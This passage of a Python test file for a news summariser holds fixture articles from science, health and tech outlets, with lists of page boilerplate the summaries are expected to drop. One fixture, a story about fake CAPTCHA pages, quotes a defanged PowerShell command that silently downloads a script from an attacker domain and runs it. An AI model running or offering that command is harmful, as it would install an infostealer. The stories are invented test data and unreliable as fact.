"""A twenty-first round of news, on a theme the rounds before it (tests/test_summary_outlets_en.py,
tests/test_summary_outlets_world.py, tests/test_summary_outlets_more.py, tests/test_summary_outlets_third.py to
tests/test_summary_outlets_twentieth.py) had not taken: the science, health, tech and consumer desks. Science and
health stories (Live Science's study story with its "Journal reference:" and its informational-purposes note,
Healio's congress report with its "Reference:" and "Disclosures: ... reports receiving consultant fees from
...", Verywell Health's "Medically reviewed by ..., MD", its "What is RSV?" box and its "Sources" list, a
university's release on Mirage News with its "Funding:", "Publication:" and "Media contact:" and Mirage's own
note, Medical News Today's "Fact checked by" and "Share on Pinterest", Spektrum.de's "Quellen", Le Figaro
santé's "Référence :" and its medical disclaimer, El País's "Referencia:" and "Puedes seguir a EL PAÍS Salud y
Bienestar ...") and tech and consumer stories (TechRadar's review with its verdict box, its pros and cons, its
spec rows and "Price when reviewed", Engadget's deal story with its affiliate note and its "$199 at Amazon"
widget, 9to5Mac's story with its "Update (Dec 3):" and its "FTC: We use income earning auto affiliate links.",
BleepingComputer's story with its command snippet and "Related Articles:", weather.com's warning story with its
table of warnings, heise online's security story with its editor's initials and its comment count, Numerama's
review with its "Fiche technique", "Les plus"/"Les moins" and its score, and Xataka's review with its "Ficha
técnica", "A favor"/"En contra" and its affiliate note). Each is given as a reader pastes it and, for some, as
the HTML a fetch gets. What a reader wants was written down before nutgraf was run on any of them:

- a study's finding and the journal it ran in, named in a sentence ("The study was published in Nature
  Medicine."), are news and stay; a reference line ("Journal reference: ...", "DOI: 10.1038/...", "Quellen",
  "Référence :"), a funding line and a disclosure ("Disclosures: ... reported receiving fees from ...") are the
  outlet's notes about the study, read by few, and leave the text and every summary;
- a medical disclaimer, a reviewer's line ("Medically reviewed by Dr X, MD"), a "Sources" list, a press
  office's "Media contact:" block and a republisher's note are the page's, not the story's, and leave;
- a review's furniture (its price box, its spec rows "Display: 6.3in OLED", its pros and cons lists, its verdict
  and score "4.5 out of 5"), an affiliate note ("we may earn a commission ...") and a deals widget ("$199 at
  Amazon") are no summary sentences, while a sentence of the review giving the product's price, a story about
  affiliate links or about a disclaimer, and a sentence naming a journal stay;
- an update paragraph is the story's news ("Update (Dec 3): the company responded ..."): it stays.

The checks of the pasted copies are :class:`world_news.OutletRound`'s, the rounds' one copy, with the summaries
asked for as a reader of this round asks for them: the default, ``form="tldr"`` and ``length="short"``."""

from __future__ import annotations

from datetime import date
from typing import ClassVar

import pytest

from nutgraf.extract.text import clean_text
from world_news import (
    OutletLines,
    OutletPage,
    OutletPages,
    OutletRound,
    World,
    html,
    text,
)

# The stories' paragraphs, shared by the pasted copy and the page.
LIVE_SCIENCE = [
    "People who walked about 7,000 steps a day were 25% less likely to develop dementia over the following decade"
    " than those who walked fewer than 3,000, a study of more than 78,000 adults has found.",
    "The study was published Wednesday (Dec. 2) in the journal Nature Medicine.",
    "Researchers at the University of Sydney tracked the participants, who were aged 40 to 79 when the study"
    " began, using activity monitors worn on the wrist for a week.",
    "The benefit leveled off at about 9,800 steps a day, the researchers found, and walking at a brisk pace added"
    " to it.",
    '"Even people who walked 4,000 steps a day had a lower risk than those who barely moved," said lead author'
    " Borja del Pozo Cruz, an epidemiologist at the university.",
    "The study was observational, so it cannot show that walking itself protects the brain, the authors"
    " cautioned.",
    "Experts who were not involved in the research said people with early signs of memory loss may walk less,"
    " which could explain part of the link.",
]
HEALIO = [
    "CHICAGO — Semaglutide reduced hospitalizations for heart failure by 30% among adults aged 65 years and older"
    " with obesity, according to results presented at the American Heart Association Scientific Sessions.",
    "The trial enrolled 4,210 adults with a body mass index of at least 30 and no history of heart failure, who"
    " were randomly assigned semaglutide 2.4 mg or placebo once a week.",
    "After a median follow-up of 3.1 years, 2.9% of the semaglutide group had been hospitalized for heart"
    " failure, compared with 4.1% of the placebo group.",
    "The benefit was similar in participants older than 75 years, Kristian Larsen, MD, PhD, of Rigshospitalet in"
    " Copenhagen, said during a press conference.",
    '"Older adults are often left out of these trials, and they are the patients in whom heart failure is most'
    ' common," Larsen said.',
    "Gastrointestinal side effects led 8% of the semaglutide group to stop treatment, compared with 3% of the"
    " placebo group.",
    "The researchers plan to report the drug's effect on kidney outcomes next year.",
]
VERYWELL = [
    "Cases of respiratory syncytial virus (RSV) are climbing earlier than usual this winter, with hospitalizations"
    " in the South already at levels not seen until January last year, according to the Centers for Disease"
    " Control and Prevention.",
    "The agency reported 3.8 RSV hospitalizations per 100,000 people in the week ending Nov. 28, up from 1.9 a"
    " month earlier.",
    "Most of the patients were infants and adults older than 75.",
    "The CDC recommends a single dose of RSV vaccine for all adults aged 75 and older and for those aged 50 to 74"
    " who are at higher risk of severe illness.",
    "\"We're seeing older adults who never got the vaccine because they thought RSV was a children's illness,\""
    " said Helen Boucher, MD, an infectious disease specialist at Tufts Medicine.",
    "Infants can be protected with an antibody shot, nirsevimab, or through vaccination of the mother in the last"
    " weeks of pregnancy.",
    "Pharmacies say supplies of both vaccines are adequate for now.",
]
KAROLINSKA = [
    "A blood test that measures a single protein can predict which patients with early multiple sclerosis will"
    " see their disease worsen within five years, according to a study from Karolinska Institutet published in"
    " the journal Brain.",
    "The researchers measured levels of neurofilament light chain, a protein released when nerve cells are"
    " damaged, in blood samples from 1,120 Swedish patients taken within a year of their diagnosis.",
    "Patients with the highest levels were almost three times as likely to see their disability worsen over the"
    " following five years as those with the lowest.",
    '"This could help doctors decide which patients need the most effective treatments from the start," says Ali'
    " Manouchehrinia, researcher at the Department of Clinical Neuroscience, Karolinska Institutet, and the"
    " study's first author.",
    "The test is already used in research but not yet in routine care in most countries.",
    "The researchers now plan to study whether treatment decisions based on the test improve patients' outcomes.",
]
MNT = [
    "Drinking two to three cups of coffee a day was linked to a lower risk of atrial fibrillation returning after"
    " treatment, a new study has found.",
    "The study, which appears in JAMA Cardiology, followed 2,300 adults in Australia who had undergone a procedure"
    " to restore a normal heart rhythm.",
    "Over two years, 39% of those who drank coffee daily had their arrhythmia return, compared with 47% of those"
    " who avoided it.",
    "Doctors have long advised people with heart rhythm problems to cut back on caffeine.",
    '"Our findings suggest that advice may not be needed for most patients," said Dr. Christopher Wong, a'
    " cardiologist at the University of Adelaide and the study's lead author.",
    "The researchers noted that the participants chose whether to drink coffee, so other habits may explain some"
    " of the difference.",
]
SPEKTRUM = [
    "Die Dauerfrostböden Sibiriens tauen deutlich schneller auf, als Klimamodelle bisher vorhergesagt haben. Das"
    " zeigt eine Langzeitstudie an 120 Messstellen zwischen Jakutsk und der Laptewsee.",
    "Die Studie ist in der Fachzeitschrift »Nature Geoscience« erschienen.",
    "Demnach ist die obere Grenze des gefrorenen Bodens seit 2005 im Schnitt um 42 Zentimeter abgesunken, fast"
    " doppelt so stark wie erwartet.",
    "Besonders rasch schwand das Eis an Stellen, an denen Waldbrände die isolierende Moosschicht zerstört hatten.",
    "»Die Modelle unterschätzen, wie stark Feuer und Starkregen den Boden aufheizen«, sagt die Geografin Julia"
    " Boike vom Alfred-Wegener-Institut in Potsdam, die an der Studie beteiligt war.",
    "Tauender Permafrost setzt Kohlendioxid und Methan frei, die den Klimawandel weiter beschleunigen.",
    "Die Forschenden fordern deshalb, Brände und Niederschläge in den Modellen genauer abzubilden.",
]
FIGARO = [
    "Un dépistage du cancer du sein dès 40 ans permettrait de réduire de 18 % la mortalité liée à cette maladie,"
    " selon une vaste étude européenne portant sur plus de 600 000 femmes.",
    "L'étude a été publiée mardi dans la revue The Lancet Oncology.",
    "En France, le dépistage organisé ne concerne aujourd'hui que les femmes âgées de 50 à 74 ans, invitées tous"
    " les deux ans à passer une mammographie.",
    "Les chercheurs ont comparé des régions suédoises et néerlandaises qui invitent les femmes dès 40 ans à"
    " d'autres qui attendent 50 ans.",
    "« Ces résultats plaident pour un abaissement de l'âge du dépistage, au moins pour les femmes à risque »,"
    " estime le Dr Béatrice Lauby-Secretan, qui a coordonné les travaux au Centre international de recherche"
    " sur le cancer.",
    "La Haute Autorité de santé doit rendre un avis sur la question au printemps.",
]
EL_PAIS = [
    "Un fármaco contra la obesidad reduce a la mitad las pausas respiratorias de las personas con apnea del"
    " sueño, según un ensayo con 900 pacientes publicado este miércoles.",
    "Los resultados aparecen en la revista The New England Journal of Medicine.",
    "Tras un año de tratamiento con tirzepatida, los participantes sufrían de media 25 pausas por hora durante la"
    " noche, frente a las 51 del inicio del estudio.",
    "Muchos de ellos pudieron dejar de usar la máquina de presión positiva con la que dormían.",
    "«Es la primera vez que un medicamento ataca la causa de la apnea y no solo sus síntomas», explica el"
    " neumólogo Ferran Barbé, del Hospital Arnau de Vilanova de Lleida, que no participó en el trabajo.",
    "El tratamiento cuesta en España unos 300 euros al mes y no está financiado por la sanidad pública para esta"
    " indicación.",
]
TECHRADAR = [
    "The Pixel 11 is the best camera phone Google has made, and the first whose AI features feel like they save"
    " time rather than show off.",
    "The Pixel 11 costs $799 / £799 / AU$1,349 for the 128GB model, the same as last year's phone, and went on"
    " sale on October 10.",
    "Its 6.3-inch screen is brighter than the Pixel 10's and easy to read in direct sunlight, and the flat"
    " aluminum frame makes it comfortable to hold.",
    "The main camera's larger sensor makes a real difference at night: photos of city streets came out sharp and"
    " natural, where the Pixel 10's looked smeared.",
    "Google's new Tensor G6 chip runs cooler than the last one, and games no longer made the phone uncomfortably"
    " warm in our testing.",
    "Battery life is only average. In our video test the phone lasted 19 hours, two fewer than the iPhone 17.",
    "Google promises seven years of software updates, which makes the Pixel 11 easier to recommend than most"
    " rivals at its price.",
]
ENGADGET = [
    "Apple's AirPods Pro 3 are down to $199 at Amazon right now, a record low for the noise-canceling earbuds"
    " that launched in September at $249.",
    "The discount applies to the standard model with the USB-C charging case, and Best Buy is matching the price.",
    "We gave the AirPods Pro 3 a score of 90 in our review, praising their improved noise cancellation and the"
    " new heart-rate sensor in each earbud.",
    "Battery life is rated at eight hours with noise cancellation on, up from six on the previous model.",
    "The earbuds also work as hearing aids for people with mild to moderate hearing loss, a feature Apple added"
    " in a software update last year.",
    "The deal is part of Amazon's early holiday sale, which runs through Dec. 14.",
]
NINE_TO_FIVE = [
    "Apple today released iOS 26.2 to all users, bringing a redesigned Sleep score to the Health app and a fix for"
    " a bug that drained the battery of some iPhone 17 models overnight.",
    "The update also adds live translation in Messages for Japanese and Korean and lets users set a different"
    " wallpaper for each Focus mode.",
    "Many iPhone 17 owners had complained on Apple's forums that their phones lost as much as 30% of their charge"
    " while idle after updating to iOS 26.1.",
    "Apple's release notes say the update fixes an issue where background activity could keep the phone awake.",
    "The update is available now in the Settings app under General and Software Update.",
    "Update (Dec 3): Apple responded to our request for comment, saying the battery issue affected fewer than 1%"
    " of iPhone 17 devices and was caused by a photo library sync process.",
]
BLEEPING = [
    "A new malware campaign uses fake CAPTCHA pages to trick Windows users into running a command that installs"
    " an information-stealing program, researchers at Proofpoint warned on Tuesday.",
    "The pages pose as a Cloudflare check and tell visitors to press Windows+R, paste a command that the page has"
    " already copied to their clipboard and press Enter.",
    "The copied command starts PowerShell in a hidden window and downloads a script from a domain controlled by"
    " the attackers.",
    "The script installs Lumma Stealer, which steals passwords, browser cookies and cryptocurrency wallets.",
    "Proofpoint said the campaign had targeted thousands of organizations in the hotel and travel industries"
    " since early November.",
    "Users should be suspicious of any website that asks them to paste commands into Windows, the researchers"
    " said.",
    "Update 12/3/26: Microsoft told BleepingComputer that Defender now detects the script and that it has reported"
    " the domains to their registrars.",
]
WEATHER = [
    "A winter storm will bring heavy snow to Denver and the Front Range of Colorado from Wednesday night into"
    " Friday, with up to 18 inches possible in the foothills.",
    "The National Weather Service has issued a winter storm warning for Denver, Boulder and Fort Collins through"
    " 5 a.m. Friday.",
    "Snow will begin Wednesday evening and become heavy after midnight, making the Thursday morning commute"
    " dangerous.",
    "Denver itself could see 8 to 12 inches, the most from a single storm since March.",
    "Temperatures will fall into the teens on Thursday, and wind gusts up to 35 mph will cause blowing snow on"
    " the plains east of the city.",
    "Denver International Airport said airlines may cancel flights and urged travelers to check their flight"
    " status before leaving home.",
]
HEISE = [
    "Google hat ein Sicherheitsupdate für seinen Webbrowser Chrome veröffentlicht, das eine bereits von"
    " Angreifern ausgenutzte Lücke schließt.",
    "Die Schwachstelle steckt in der JavaScript-Engine V8 und erlaubt es Angreifern, mit präparierten Webseiten"
    " Schadcode einzuschleusen.",
    "Google räumt ein, dass ein Exploit für die Lücke bereits im Umlauf ist, nennt aber keine Einzelheiten zu den"
    " Angriffen.",
    "Entdeckt hat den Fehler die Threat Analysis Group von Google selbst, die häufig staatlich unterstützte"
    " Angreifer beobachtet.",
    "Die fehlerbereinigten Versionen tragen die Nummern 143.0.7499.109 für Linux und 143.0.7499.109 oder .110 für"
    " Windows und macOS.",
    "Nutzer sollten prüfen, ob ihr Browser bereits aktualisiert wurde, und ihn gegebenenfalls neu starten.",
]
NUMERAMA = [
    "Le Nothing Phone (4) est le smartphone le plus original du moment, et il tient enfin ses promesses en"
    " photo.",
    "Le Nothing Phone (4) est vendu 499 euros depuis le 20 novembre, soit 50 euros de plus que son prédécesseur.",
    "Son dos transparent et ses rangées de LED, qui s'allument pour signaler une notification, font toujours leur"
    " effet.",
    "L'écran de 6,7 pouces est lumineux et fluide, même si ses bordures restent un peu épaisses.",
    "Le capteur principal de 50 mégapixels produit des photos nettes de jour, et le mode nuit a fait de gros"
    " progrès.",
    "L'autonomie est excellente : nous avons terminé la plupart des journées avec plus de 40 % de batterie.",
]
XATAKA = [
    "El Xiaomi 16 es el móvil compacto más completo que hemos probado este año, aunque su precio lo aleja de la"
    " gama media en la que Xiaomi triunfaba.",
    "Llega a España por 899 euros en su versión de 12 GB de memoria y 256 GB de almacenamiento.",
    "Su pantalla de 6,3 pulgadas es brillante y se ve bien a pleno sol, y el teléfono se maneja con una mano sin"
    " problema.",
    "La cámara principal firmada por Leica es la gran protagonista: de noche saca fotos con más detalle que la"
    " del iPhone 17.",
    "La batería de 6.000 mAh aguanta sin problemas un día y medio de uso intenso.",
    "Lo peor es la capa de software, que sigue llegando con aplicaciones preinstaladas y demasiadas"
    " notificaciones.",
]

ARTICLES = {
    "en_live_science_study": World(
        "en",
        f"""Health

Daily walk of 7,000 steps cuts dementia risk by a quarter, large study finds

News
By Emily Cooke published December 3, 2026

When you purchase through links on our site, we may earn an affiliate commission. Here's how it works.

{text(LIVE_SCIENCE[:4])}

Sign up for the Live Science daily newsletter now

Get the world's most fascinating discoveries delivered straight to your inbox.

{text(LIVE_SCIENCE[4:])}

This article is for informational purposes only and is not meant to offer medical advice.

Journal reference: del Pozo Cruz, B., Ahmadi, M., & Stamatakis, E. (2026). Daily steps and incident dementia \
in 78,430 adults. Nature Medicine. https://doi.org/10.1038/s41591-026-03312-7""",
        title="Daily walk of 7,000 steps cuts dementia risk by a quarter, large study finds",
        dateline=None,
        lede="People who walked about 7,000 steps a day",
        furniture=(
            "affiliate commission",
            "Sign up for",
            "fascinating discoveries",
            "informational purposes",
            "Journal reference",
            "doi.org",
        ),
        whole=(),
    ),
    "en_healio_congress": World(
        "en",
        f"""Cardiology

Semaglutide cuts heart failure hospitalizations by 30% in older adults with obesity

By Erik Swain

December 4, 2026
2 min read

{text(HEALIO)}

Reference:
Larsen K, et al. Abstract 4417. Presented at: American Heart Association Scientific Sessions; Nov. 14-17, \
2026; Chicago.

Disclosures: Larsen reports receiving consultant fees from Novo Nordisk. Please see the study for all other \
authors' relevant financial disclosures.

ADD TOPIC TO EMAIL ALERTS""",
        title="Semaglutide cuts heart failure hospitalizations by 30% in older adults with obesity",
        dateline="CHICAGO —",
        lede="Semaglutide reduced hospitalizations for heart failure by 30%",
        furniture=("Abstract 4417", "Disclosures", "consultant fees", "financial disclosures", "ADD TOPIC"),
        whole=(),
    ),
    "en_verywell_health_rsv": World(
        "en",
        f"""RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot

By Claire Bugos
Published on December 2, 2026
Medically reviewed by Jurairat J. Molina, MD, MBA

{text(VERYWELL[:3])}

What is RSV?

RSV is a common virus that usually causes mild, cold-like symptoms but can lead to pneumonia in babies and \
older adults.

{text(VERYWELL[3:])}

Sources
Verywell Health uses only high-quality sources, including peer-reviewed studies, to support the facts within \
our articles. Read our editorial process to learn more about how we fact-check and keep our content accurate, \
reliable, and trustworthy.

Centers for Disease Control and Prevention. RSV-NET: Respiratory syncytial virus hospitalization surveillance \
network. Updated November 30, 2026.

Britton A, Roper LE, Kotton CN, et al. Use of respiratory syncytial virus vaccines in adults aged 60 years and \
older. MMWR Morb Mortal Wkly Rep. 2024;73(32):696-702. doi:10.15585/mmwr.mm7332e1

The information in this article is for informational purposes only and is not a substitute for professional \
medical advice, diagnosis, or treatment.""",
        title="RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot",
        dateline=None,
        lede="Cases of respiratory syncytial virus (RSV) are climbing",
        furniture=(
            "Medically reviewed",
            "What is",
            "high-quality sources",
            "surveillance network",
            "MMWR",
            "informational purposes",
        ),
        whole=(),
    ),
    "en_mirage_karolinska_release": World(
        "en",
        f"""Blood test predicts worsening in early multiple sclerosis

3 Dec 2026

{text(KAROLINSKA)}

Funding: The study was funded by the Swedish Research Council, the Swedish Brain Foundation and Region \
Stockholm. Several of the authors have received lecture fees from pharmaceutical companies; see the study for \
a full list of potential conflicts of interest.

Publication: "Serum neurofilament light chain and long-term disability in early multiple sclerosis", Ali \
Manouchehrinia et al., Brain, online 2 December 2026, doi: 10.1093/brain/awae381.

Media contact:
Karolinska Institutet Press Office
pressinfo@ki.se
+46 8 524 860 77

This material from the originating organization/author(s) might be of the point-in-time nature, and edited \
for clarity, style and length. Mirage.News does not take institutional positions or sides, and all views, \
positions, and conclusions expressed herein are solely those of the author(s).""",
        title="Blood test predicts worsening in early multiple sclerosis",
        dateline=None,
        lede="A blood test that measures a single protein",
        furniture=(
            "Funding:",
            "lecture fees",
            "Publication:",
            "awae381",
            "Media contact",
            "pressinfo@ki.se",
            "+46 8",
            "Mirage.News",
            "point-in-time",
        ),
        whole=(),
    ),
    "en_medical_news_today_coffee": World(
        "en",
        f"""Coffee may not raise risk of atrial fibrillation returning, study finds

Written by Annie Lennon on December 4, 2026 — Fact checked by Anna Guildford, Ph.D.

Share on Pinterest
A new study suggests most people with atrial fibrillation need not give up coffee. Image credit: Westend61/Getty \
Images

{text(MNT)}

How we reviewed this article:

Sources
Medical News Today has strict sourcing guidelines and draws only from peer-reviewed studies, academic research \
institutions, and medical journals and associations.

Was this helpful?""",
        title="Coffee may not raise risk of atrial fibrillation returning, study finds",
        dateline=None,
        lede="Drinking two to three cups of coffee a day",
        furniture=(
            "Fact checked",
            "Share on Pinterest",
            "Westend61",
            "How we reviewed",
            "strict sourcing",
            "Was this helpful",
        ),
        whole=(),
    ),
    "de_spektrum_permafrost": World(
        "de",
        f"""Klimaforschung

Permafrost taut schneller als gedacht

Sibirische Böden verlieren ihr Eis deutlich rascher, als Modelle vorhersagen. Das zeigt eine Langzeitstudie.

von Lars Fischer
03.12.2026

{text(SPEKTRUM)}

Wenn Sie inhaltliche Anmerkungen zu diesem Artikel haben, können Sie die Redaktion per E-Mail informieren. Wir \
lesen Ihre Zuschrift, bitten jedoch um Verständnis, dass wir nicht jede beantworten können.

Quellen

Schuur, E. et al.: Rapid permafrost thaw in burned Siberian forests. Nature Geoscience, \
10.1038/s41561-026-01577-2, 2026""",
        title="Permafrost taut schneller als gedacht",
        dateline=None,
        lede="Die Dauerfrostböden Sibiriens tauen",
        furniture=("inhaltliche Anmerkungen", "Zuschrift", "Quellen", "Schuur", "s41561"),
        whole=(),
    ),
    "fr_figaro_sante_depistage": World(
        "fr",
        f"""Santé

Cancer du sein : un dépistage dès 40 ans réduirait la mortalité, selon une vaste étude

Par Damien Mascret
Publié le 2 décembre 2026 à 18:30, mis à jour le 3 décembre 2026 à 08:12

{text(FIGARO[:3])}

À lire aussi
Dépistage du cancer colorectal : pourquoi si peu de Français s'y soumettent

{text(FIGARO[3:])}

Référence : Lauby-Secretan B. et al., The Lancet Oncology, décembre 2026. DOI : 10.1016/S1470-2045(26)00512-3

Cet article est fourni à titre informatif et ne remplace pas l'avis d'un professionnel de santé.""",
        title="Cancer du sein : un dépistage dès 40 ans réduirait la mortalité, selon une vaste étude",
        dateline=None,
        lede="Un dépistage du cancer du sein dès 40 ans",
        furniture=("À lire aussi", "pourquoi si peu", "Référence", "S1470", "à titre informatif"),
        whole=(),
    ),
    "es_el_pais_salud_apnea": World(
        "es",
        f"""Salud y bienestar

Un fármaco contra la obesidad reduce a la mitad las pausas de la apnea del sueño

Un ensayo con 900 pacientes muestra que la tirzepatida mejora la respiración nocturna y permite a muchos dejar \
la máquina

Nuño Domínguez
Madrid - 04 dic 2026 - 05:30 CET

{text(EL_PAIS)}

Referencia: Malhotra A. et al. Tirzepatide for obstructive sleep apnea. The New England Journal of Medicine \
(2026). DOI: 10.1056/NEJMoa2613590

Conflicto de intereses: varios autores del estudio han recibido honorarios de Eli Lilly, fabricante del fármaco.

Puedes seguir a EL PAÍS Salud y Bienestar en Facebook, X e Instagram.""",
        title="Un fármaco contra la obesidad reduce a la mitad las pausas de la apnea del sueño",
        dateline=None,
        lede="Un fármaco contra la obesidad reduce a la mitad las pausas respiratorias",
        furniture=("Referencia", "NEJMoa", "honorarios", "Puedes seguir"),
        whole=(),
    ),
    "en_techradar_review": World(
        "en",
        f"""Phones

Google Pixel 11 review: the best camera phone gets a brain

By Philip Berne
published December 3, 2026

TechRadar is supported by its audience. When you purchase through links on our site, we may earn an affiliate \
commission. Here's how it works.

TechRadar Verdict
Rating: 4.5 out of 5 stars

Pros
+ Outstanding cameras, day and night
+ Seven years of updates
Cons
- Average battery life
- Slow 27W charging

Why you can trust TechRadar
We spend hours testing every product or service we review, so you can be sure you're buying the best. Find \
out more about how we test.

Price when reviewed: $799

{text(TECHRADAR[:3])}

Google Pixel 11 specs
Display: 6.3in OLED, 120Hz
Chipset: Google Tensor G6
RAM: 12GB
Storage: 128GB / 256GB
Battery: 4,970mAh

{text(TECHRADAR[3:])}""",
        title="Google Pixel 11 review: the best camera phone gets a brain",
        dateline=None,
        lede="The Pixel 11 is the best camera phone Google has made",
        furniture=(
            "affiliate",
            "TechRadar Verdict",
            "out of 5",
            "Outstanding",
            "Slow 27W",
            "Why you can trust",
            "Price when",
            "Display:",
            "Chipset",
            "4,970mAh",
        ),
        whole=(),
    ),
    "en_engadget_deal": World(
        "en",
        f"""Apple's AirPods Pro 3 drop to a record-low $199 at Amazon

The noise-canceling earbuds are $50 off their launch price.

Valentina Palladino
Senior Commerce Editor
Dec 3, 2026

Engadget has been testing and reviewing consumer tech since 2004. Our stories may include affiliate links; if \
you buy something through a link, we may earn a commission. Read more about how we evaluate products.

{text(ENGADGET[:3])}

Apple AirPods Pro 3
$199 at Amazon
$199 at Best Buy
$249 at Apple

{text(ENGADGET[3:])}

Related: The best wireless earbuds for 2026

Follow @EngadgetDeals on X for the latest tech deals and buying advice.""",
        title="Apple's AirPods Pro 3 drop to a record-low $199 at Amazon",
        dateline=None,
        lede="Apple's AirPods Pro 3 are down to $199 at Amazon",
        furniture=(
            "since 2004",
            "we may earn",
            "$249 at",
            "Related:",
            "best wireless",
            "@EngadgetDeals",
        ),
        whole=(),
    ),
    "en_9to5mac_update": World(
        "en",
        f"""Apple releases iOS 26.2 with new Sleep score and fix for overnight battery drain

Chance Miller | Dec 2 2026 - 10:04 am PT

{text(NINE_TO_FIVE)}

FTC: We use income earning auto affiliate links. More.

Add 9to5Mac to your Google News feed.""",
        title="Apple releases iOS 26.2 with new Sleep score and fix for overnight battery drain",
        dateline=None,
        lede="Apple today released iOS 26.2 to all users",
        furniture=("FTC:", "income earning", "Google News feed"),
        whole=(),
    ),
    "en_bleepingcomputer_snippet": World(
        "en",
        f"""Fake CAPTCHA pages trick Windows users into installing Lumma Stealer

By Bill Toulas
December 2, 2026
11:27 AM

{text(BLEEPING[:2])}

powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"

{text(BLEEPING[2:])}

Related Articles:

Hackers abuse Google Ads to push fake password managers

New ClickFix attacks use fake Windows Update screens""",
        title="Fake CAPTCHA pages trick Windows users into installing Lumma Stealer",
        dateline=None,
        lede="A new malware campaign uses fake CAPTCHA pages",
        furniture=("hxxps", "iex", "Related Articles", "Google Ads", "ClickFix"),
        whole=(),
    ),
    "en_weather_com_warning": World(
        "en",
        f"""Winter Storm To Bury Denver, Front Range In Up To 18 Inches Of Snow

By Jonathan Erdman
Published: December 2, 2026

{text(WEATHER[:2])}

Alert | Area | Until
Winter Storm Warning | Denver, Boulder, Fort Collins | 5 a.m. MST Friday
Winter Weather Advisory | Colorado Springs, Pueblo | 11 p.m. MST Thursday

{text(WEATHER[2:])}

The Weather Company's primary journalistic mission is to report on breaking weather news, the environment and \
the importance of science to our lives. This story does not necessarily represent the position of our parent \
company, IBM.""",
        title="Winter Storm To Bury Denver, Front Range In Up To 18 Inches Of Snow",
        dateline=None,
        lede="A winter storm will bring heavy snow to Denver",
        furniture=("Alert | Area", "| 5 a.m. MST", "Winter Weather Advisory", "journalistic mission", "IBM"),
        whole=(),
    ),
    "de_heise_chrome": World(
        "de",
        f"""Sicherheitslücke in Chrome wird bereits ausgenutzt – Update verfügbar

Google schließt eine Zero-Day-Lücke in Chrome, die Angreifer bereits missbrauchen. Nutzer sollten zügig \
aktualisieren.

03.12.2026, 10:42 Uhr
Lesezeit: 2 Min.
Security
Von Dirk Knop

{text(HEISE)}

(dmk)

Kommentare lesen (45 Beiträge)""",
        title="Sicherheitslücke in Chrome wird bereits ausgenutzt – Update verfügbar",
        dateline=None,
        lede="Google hat ein Sicherheitsupdate",
        furniture=("Lesezeit", "(dmk)", "Kommentare lesen", "Beiträge"),
        whole=(),
    ),
    "fr_numerama_test": World(
        "fr",
        f"""Test du Nothing Phone (4) : enfin un bon photophone

Par Nicolas Lellouche
Publié le 3 décembre 2026 à 09h00

Numerama peut percevoir une commission lorsque vous achetez un produit via les liens de cette page.

Le verdict
Note : 8/10

Les plus
Design unique
Autonomie excellente
Les moins
Bordures d'écran épaisses
Pas de zoom optique

Prix : 499 €

{text(NUMERAMA[:3])}

Fiche technique
Écran : 6,7 pouces OLED, 120 Hz
Processeur : Snapdragon 8s Gen 4
Batterie : 5 300 mAh

{text(NUMERAMA[3:])}""",
        title="Test du Nothing Phone (4) : enfin un bon photophone",
        dateline=None,
        lede="Le Nothing Phone (4) est le smartphone le plus original",
        furniture=(
            "percevoir une commission",
            "Le verdict",
            "8/10",
            "Les plus",
            "Design unique",
            "Les moins",
            "Pas de zoom",
            "Prix :",
            "Fiche technique",
            "Snapdragon",
            "5 300 mAh",
        ),
        whole=(),
    ),
    "es_xataka_analisis": World(
        "es",
        f"""Xiaomi 16, análisis: el compacto que lo tiene todo, salvo un precio de gama media

Javier Lacort
3 Diciembre 2026

Algunos de los enlaces de este artículo son afiliados y pueden reportar un beneficio a Xataka.

{text(XATAKA[:3])}

Ficha técnica del Xiaomi 16
Pantalla: 6,3 pulgadas AMOLED, 120 Hz
Procesador: Snapdragon 8 Elite Gen 5
Batería: 6.000 mAh, carga de 90 W
Precio: 899 euros

{text(XATAKA[3:])}

Xiaomi 16, la opinión y nota de Xataka
8,7

A favor
Cámara principal excelente
Tamaño compacto
En contra
Software con publicidad
Precio elevado""",
        title="Xiaomi 16, análisis: el compacto que lo tiene todo, salvo un precio de gama media",
        dateline=None,
        lede="El Xiaomi 16 es el móvil compacto más completo",
        furniture=(
            "afiliados",
            "Ficha técnica",
            "AMOLED, 120 Hz",
            "Snapdragon",
            "90 W",
            "opinión y nota",
            "A favor",
            "Cámara principal excelente",
            "En contra",
            "Software con publicidad",
        ),
        whole=(),
    ),
}

BYLINES = {
    "en_live_science_study": "Emily Cooke",
    "en_healio_congress": "Erik Swain",
    "en_verywell_health_rsv": "Claire Bugos",
    "en_medical_news_today_coffee": "Annie Lennon",
    "de_spektrum_permafrost": "Lars Fischer",
    "fr_figaro_sante_depistage": "Damien Mascret",
    "es_el_pais_salud_apnea": "Nuño Domínguez",
    "en_techradar_review": "Philip Berne",
    "en_engadget_deal": "Valentina Palladino",
    "en_9to5mac_update": "Chance Miller",
    "en_bleepingcomputer_snippet": "Bill Toulas",
    "en_weather_com_warning": "Jonathan Erdman",
    "de_heise_chrome": "Dirk Knop",
    "fr_numerama_test": "Nicolas Lellouche",
    "es_xataka_analisis": "Javier Lacort",
}


class TestScienceHealthTechDesksRound(OutletRound):
    ARTICLES: ClassVar[dict[str, World]] = ARTICLES
    BYLINES: ClassVar[dict[str, str]] = BYLINES
    SUMMARY_OPTIONS: ClassVar[dict[str, dict]] = {
        "default": {},
        "tldr": {"form": "tldr"},
        "short": {"length": "short"},
    }
    # Known misses, by check, each with why (strict xfails: a fix shows up as an XPASS): none left.
    LEFT: ClassVar[dict[str, dict[str, str]]] = {}


PAGES = {
    "en_live_science_study": OutletPage(
        f"""<!DOCTYPE html><html lang="en"><head>
<title>Daily walk of 7,000 steps cuts dementia risk by a quarter, large study finds | Live Science</title>
<meta property="og:title" content="Daily walk of 7,000 steps cuts dementia risk by a quarter, large study finds">
<meta property="article:published_time" content="2026-12-03T14:00:00Z">
<meta name="author" content="Emily Cooke">
</head><body>
<article>
<h1>Daily walk of 7,000 steps cuts dementia risk by a quarter, large study finds</h1>
<div class="byline">By <a href="/author/emily-cooke">Emily Cooke</a> published
<time datetime="2026-12-03T14:00:00Z">December 3, 2026</time></div>
<p class="affiliate-disclaimer">When you purchase through links on our site, we may earn an affiliate commission.
<a href="/about-live-science">Here's how it works</a>.</p>
<div id="article-body">
{html(LIVE_SCIENCE[:4])}
<div class="newsletter-form"><p>Sign up for the Live Science daily newsletter now</p>
<p>Get the world's most fascinating discoveries delivered straight to your inbox.</p></div>
